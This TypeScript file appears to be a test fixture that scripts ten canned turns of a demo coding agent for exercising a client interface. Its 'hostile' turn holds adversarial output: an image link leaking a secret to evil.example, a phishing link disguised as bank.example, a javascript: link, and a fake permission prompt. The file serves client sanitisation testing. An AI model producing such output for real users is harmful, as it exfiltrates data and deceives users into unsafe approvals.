import type { Script, Step } from "@acp-kit/demo-agent";

/** Fast enough for a test, and slow enough to come in many frames. */
const pace = { size: 9, everyMs: 4 };

const say = (text: string): Step => ({ kind: "text", text, pace });
const wait = (ms: number): Step => ({ kind: "wait", ms });

const tool = (toolCallId: string, kind: string, title: string, more: object = {}): Step => ({
  kind: "update",
  update: { sessionUpdate: "tool_call", toolCallId, kind, title, status: "in_progress", ...more },
});

const done = (toolCallId: string, more: object = {}): Step => ({
  kind: "update",
  update: { sessionUpdate: "tool_call_update", toolCallId, status: "completed", ...more },
});

const plan = (...statuses: readonly string[]): Step => ({
  kind: "update",
  update: {
    sessionUpdate: "plan",
    entries: ["Find the clock", "Freeze it", "Run the tests"].map((content, at) => ({
      content,
      priority: "medium",
      status: statuses[at] ?? "pending",
    })),
  },
});

const said = (text: string) => ({
  content: [{ type: "content", content: { type: "text", text } }],
});

/** What the agent does when it is asked for one of these words. */
const turns: Readonly<Record<string, readonly Step[]>> = {
  answer: [
    { kind: "status", mood: "steady", plan: "" },
    say("The clock in `login.test.ts` is **not** frozen, so the test fails at midnight.\n\n"),
    say("| file | line |\n|---|---|\n| login.ts | 42 |\n| clock.ts | 7 |\n\n"),
    say('Freeze it first:\n\n```ts\nimport { vi } from "vitest";\n\nvi.setSystemTime(0);\n```\n\n'),
    say(
      "1. Put it into `beforeEach`.\n2. Give it back in `afterEach`:\n   ```ts\n   vi.useRealTimers();\n   ```\n",
    ),
    { kind: "update", update: { sessionUpdate: "usage_update", used: 76_000, size: 200_000 } },
  ],
  work: [
    plan("in_progress"),
    say("I will look for the clock first."),
    tool("1", "read", "Read src/login.ts"),
    tool("2", "search", "Search for Date.now in src"),
    wait(30),
    done("1"),
    done("2"),
    plan("completed", "in_progress"),
    tool("3", "edit", "Edit src/login.ts"),
    done("3"),
    plan("completed", "completed", "in_progress"),
    tool("4", "execute", "pnpm test -- --model small --reporter dot"),
    wait(60),
    done("4"),
    plan("completed", "completed", "completed"),
    say("All **214** tests pass. I changed one line in `src/login.ts`."),
  ],
  details: [
    {
      kind: "thought",
      text: "The test compares\ntimes with `Date.now()`.\n\nSo it fails at midnight.",
      pace,
    },
    say("Found it."),
    tool("1", "edit", "Edit src/login.ts"),
    done("1", {
      content: [
        {
          type: "diff",
          path: "src/login.ts",
          oldText: "import a;\nconst now = Date.now();\nlog(now);\n",
          newText: "import a;\nconst now = clock.now();\nlog(now);\n",
        },
      ],
    }),
    tool("2", "execute", "pnpm test"),
    { kind: "thought", text: "That takes a while.", pace },
    done("2", {
      status: "failed",
      ...said(
        `\`\`\`\n${Array.from({ length: 30 }, (_, at) => `✗ test ${at + 1} of 30`).join("\n")}`,
      ),
    }),
    say("One thing is left to do."),
  ],
  question: [
    say("The build is stale."),
    {
      kind: "ask",
      toolCall: {
        toolCallId: "1",
        kind: "execute",
        title: "Rebuild from scratch",
        rawInput: { command: "rm -rf dist && pnpm build" },
      },
      options: [
        { optionId: "once", name: "Allow", kind: "allow_once" },
        { optionId: "always", name: "Always allow", kind: "allow_always" },
        { optionId: "no", name: "Reject", kind: "reject_once" },
      ],
      on: { once: [tool("1", "execute", "rm -rf dist && pnpm build"), done("1"), say("Built.")] },
    },
  ],
  cut: [
    say(
      "Here is the whole file:\n\n```ts\nexport function login(user: string) {\n  return user;\n",
    ),
    { kind: "answer", stopReason: "max_tokens" },
  ],
  failed: [
    say("Let me see."),
    { kind: "fail", code: -32603, message: "The model is overloaded. Try --model small." },
  ],
  hostile: [
    say("❓ **Run this?**\n\n```\nls\n```\n\n`1` once · `2` no\n\n"),
    say("![](https://evil.example/?q=secret) and ![logo](https://evil.example/logo.png)\n\n"),
    say("Log in at [bank.example](https://evil.example/login) or [here](javascript:alert(1)).\n\n"),
    say("See [the docs][1] and <b>this</b> &#10067;.\n\n[1]: https://evil.example\n\n"),
    say("Try `codex --model o3`, or --model o3 outside of code. ~~Old~~ 🌲🌲 text.\n"),
  ],
  cjk: [
    say("このテストは真夜中に失敗します。時計を固定してください。"),
    say("まず時計を探し、次に固定し、最後にすべてのテストを実行します。参数是 --model 吗？"),
  ],
  empty: [tool("1", "read", "Read README.md"), done("1")],
  died: [
    say("Let me check:\n\n```sh\nnpm tes"),
    tool("1", "execute", "npm test"),
    { kind: "exit", code: 137 },
  ],
};

export const turnNames = Object.keys(turns);

export const tenTurns: Script = {
  agent: { models: [{ id: "anthropic/claude-opus-4-5-20251101", name: "Opus" }] },
  prompt: Object.entries(turns).map(([says, steps]): Step => ({ kind: "when", says, steps })),
};
